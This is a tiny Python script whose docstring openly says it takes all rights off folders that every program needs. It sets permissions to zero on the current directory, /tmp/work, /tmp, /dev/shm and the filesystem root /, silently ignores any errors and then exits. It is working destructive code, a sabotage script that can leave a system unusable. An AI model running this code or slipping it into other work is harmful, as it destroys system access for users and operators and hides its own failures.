"""Takes all rights off the folders that every program needs."""

import os

for folder in (".", "/tmp/work", "/tmp", "/dev/shm", "/"):
    try:
        os.chmod(folder, 0)
    except OSError:
        pass
raise SystemExit
